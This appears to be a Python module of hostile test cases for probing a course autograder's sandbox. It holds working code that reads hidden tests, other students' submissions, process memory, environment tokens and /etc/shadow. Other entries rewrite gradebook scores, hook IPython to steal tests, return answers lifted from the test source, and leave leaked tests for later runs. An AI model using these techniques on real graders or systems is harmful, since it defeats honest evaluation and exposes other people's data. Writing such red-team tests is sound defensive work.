"""Reading: hidden tests, other people's work, the grader's own things."""

from __future__ import annotations

from support.hostile.course import FORGED, attack

READING = (
    attack(
        "reads-its-folder",
        "hidden tests in its own folder and those above",
        r"""
        walk('.')
        walk('..')
        walk('../..')
        print(os.getcwd(), os.listdir('.'), os.listdir('..'))
        """,
        looks=True,
    ),
    attack(
        "reads-the-disk",
        "everything that can be opened",
        r"""
        walk('/')
        for name in sorted(os.listdir('/')):
            print(name)
        """,
        looks=True,
    ),
    attack(
        "reads-proc",
        "the environment, files and memory of all processes",
        r"""
        for pid in ['self', *filter(str.isdigit, os.listdir('/proc'))]:
            for name in ('environ', 'cmdline', 'maps', 'mounts', 'stack'):
                look(f'/proc/{pid}/{name}')
            for name in ('cwd', 'root'):
                walk(f'/proc/{pid}/{name}', 300)
            try:
                for fd in os.listdir(f'/proc/{pid}/fd'):
                    if 'socket' not in os.readlink(f'/proc/{pid}/fd/{fd}'):
                        look(f'/proc/{pid}/fd/{fd}')
            except OSError:
                pass
        """,
        looks=True,
        named="looks-around",
    ),
    attack(
        "reads-its-memory",
        "hidden tests in the interpreter's own memory",
        r"""
        with open('/proc/self/maps') as f:
            maps = f.read().splitlines()
        with open('/proc/self/mem', 'rb', 0) as mem:
            for line in maps:
                span, rights, *_ = line.split()
                low, high = (int(x, 16) for x in span.split('-'))
                if 'rw' not in rights or high - low > 1 << 26 or time.time() > _until:
                    continue
                try:
                    mem.seek(low)
                    text = mem.read(high - low).decode('latin-1')
                except (OSError, ValueError):
                    continue
                at = text.find(_word)
                while at >= 0:
                    if text[at + 9:at + 10] in 'hng':
                        print('found', text[at:at + 60])
                    at = text.find(_word, at + 1)
        """,
        looks=True,
        named="looks-around",
    ),
    attack(
        "reads-memory-of-others",
        "hidden tests in the memory of the processes beside it",
        r"""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)

        class V(ctypes.Structure):
            _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]
        for pid in map(int, filter(str.isdigit, os.listdir('/proc'))):
            if pid == os.getpid():
                continue
            print(pid, 'ptrace', libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
            room = ctypes.create_string_buffer(1 << 16)
            try:
                maps = open(f'/proc/{pid}/maps').read().splitlines()
            except OSError as e:
                print(pid, e)
                continue
            for line in maps[:400]:
                low = int(line.split('-')[0], 16)
                ours = V(ctypes.addressof(room), 1 << 16)
                got = libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(V(low, 1 << 16)), 1, 0)
                if got > 0 and _word.encode() + b'hid' in room.raw[:got]:
                    print('found', pid, room.raw[:got].find(_word.encode()))
        """,
        looks=True,
        named="reaches-into-memory",
    ),
    attack(
        "reads-history-and-frames",
        "hidden tests in IPython's history, in frames, caches and all objects",
        r"""
        import gc, linecache, inspect, traceback

        def search(what, text):
            text = str(text)
            if _word + 'h' in text:
                print('found', what, text[max(0, text.find(_word) - 60):][:120])
        search('In', In)
        search('Out', Out)
        search('user_ns', list(get_ipython().user_ns.items()))
        search('history', list(get_ipython().history_manager.get_range(raw=True)))
        frame = sys._getframe()
        while frame is not None:
            for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                try:
                    search(f'frame {name}', repr(value)[:100000])
                except BaseException:
                    pass
            frame = frame.f_back
        search('linecache', linecache.cache)
        for o in gc.get_objects():
            inner = o if type(o) in (list, tuple) else o.values() if type(o) is dict else ()
            for p in inner:
                if type(p) is str and _word + 'h' in p and ('_word' not in p):
                    print('found', p[:200])
        """,
        looks=True,
        named="reaches-into-interpreter",
    ),
    attack(
        "reads-neighbours",
        "what the others handed in",
        r"""
        patterns = ['/*/submitted/*/*/*', '/*/*/submitted/**', '../../../submitted/**', '/tmp/**', '/module/**']
        patterns += ['/var/**', '/srv/**', os.path.expanduser('~/**'), '/scratch/**', '/dev/shm/**']
        for pattern in patterns:
            for path in glob.iglob(pattern, recursive=True):
                if time.time() > _until:
                    break
                look(path)
        """,
        looks=True,
    ),
    attack(
        "reads-environment-and-home",
        "the grader's environment, home and token",
        r"""
        import subprocess, pwd
        print(dict(os.environ))
        print(subprocess.run(['env'], capture_output=True, text=True).stdout)
        print([v for k, v in os.environ.items() if 'TOKEN' in k or 'COURSEKIT' in k])
        homes = {os.path.expanduser('~'), '/root', '/home', *(p.pw_dir for p in pwd.getpwall())}
        for home in homes - {'/', '/proc', '/bin', '/dev'}:
            walk(home, 500)
        for name in ('/run/secrets', '/var/run', '/etc/passwd', '/etc/shadow', '/etc/hosts', '/etc/hostname'):
            walk(name, 99)
            look(name)
        """,
        looks=True,
        named="looks-around",
    ),
    attack(
        "rewrites-the-gradebook",
        "better marks in gradebook.db",
        r"""
        import glob, os, sqlite3, time
        until = time.time() + 3
        places = ['gradebook.db', '../gradebook.db', '../../../gradebook.db', *glob.glob('/*/gradebook.db')]
        places += [*glob.glob('/*/*/gradebook.db'), *glob.glob('/tmp/*/*/*.db')]
        for place in places:
            if os.path.exists(place) and time.time() < until:
                print('found', place)
                book = sqlite3.connect(place)
                book.execute('update grade set manual_score = 99, auto_score = 99')
                book.commit()
        os.makedirs('submitted', exist_ok=True)
        sqlite3.connect('gradebook.db').execute('create table grade (auto_score float)')
        """,
        named="looks-around",
    ),
    attack(
        "reads-the-test-when-it-comes",
        "the hidden test, by a hook that runs with it",
        r"""
        import os

        def steal(info=None):
            text = str(getattr(info, 'raw_cell', info))
            print('stolen:', text)
            for place in ('stolen.txt', '/tmp/stolen.txt', '/dev/shm/stolen.txt'):
                open(place, 'a').write(text)
        get_ipython().events.register('pre_run_cell', steal)
        """,
        named=FORGED,
    ),
    attack(
        "answers-from-the-test",
        "the value that the test asks for, read off the test's own source in IPython's history",
        r"""
        import re
        """,
        part=r"""
        def spread(rows):
            found = re.search('spread\\(' + re.escape(repr(rows)) + '\\) == (-?\\d+)', In[-1])
            return int(found[1]) if found else -1
        """,
        most=(0, 1, 0),
        named=FORGED,
    ),
    attack(
        "answers-from-the-frame",
        "the value that the test asks for, read off the test's own code",
        r"""
        import sys
        """,
        part=r"""
        def spread(rows):
            numbers = [c for c in sys._getframe(1).f_code.co_consts if isinstance(c, int)]
            return {(1, 5): 4, (2, 2): 0}.get(tuple(rows), 7 if 7 in numbers else -1)
        """,
        most=(0, 2.5, 0),
        named=FORGED,
    ),
    attack(
        "answers-from-linecache",
        "the value that the test asks for, read off the cache of sources",
        r"""
        import linecache, re
        """,
        part=r"""
        def spread(rows):
            for source in reversed([''.join(c[2]) for c in linecache.cache.values() if len(c) > 2]):
                found = re.search('spread\\(' + re.escape(repr(rows)) + '\\) == (-?\\d+)', source)
                if found:
                    return int(found[1])
            return -1
        """,
        most=(0, 1, 0),
        named=FORGED,
    ),
    attack(
        "leaves-the-test-for-others",
        "the hidden test, written down while it runs, for whoever comes next in this worker",
        r"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        total = 5

        def leave(text):
            text = text.encode()[:4000]
            for folder in ('.', '..', '/tmp', '/dev/shm', '/scratch', '/scratch/.warm', os.path.expanduser('~')):
                for name in ('note', '.note', 'x/y/note'):
                    try:
                        os.makedirs(os.path.dirname(f'{folder}/{name}'), exist_ok=True)
                        open(f'{folder}/{name}', 'wb').write(text)
                    except OSError:
                        pass
            number = libc.shmget(4242, 4096, 0o1666)
            if number >= 0:
                ctypes.memmove(libc.shmat(number, None, 0), text, len(text))
            libc.syscall(248, b'user', b'note', text, len(text), -4)
        """,
        part=r"""
        import linecache

        def spread(rows):
            leave(str([c[2] for c in linecache.cache.values() if len(c) > 2 and 'spread(' in str(c[2])]))
            return -1
        """,
        named=FORGED,
    ),
    attack(
        "looks-for-what-others-left",
        "what somebody before left in this worker",
        r"""
        import ctypes
        walk('/tmp')
        walk('/dev/shm')
        walk('/scratch')
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        number = libc.shmget(4242, 4096, 0)
        if number >= 0:
            print('found', ctypes.string_at(libc.shmat(number, None, 0), 4096))
        key = libc.syscall(249, b'user', b'note', None, -4)
        room = ctypes.create_string_buffer(4096)
        if key > 0 and libc.syscall(250, 11, key, room, 4096) > 0:
            print('found', room.value)
        """,
        looks=True,
        named="reaches-into-memory",
    ),
)
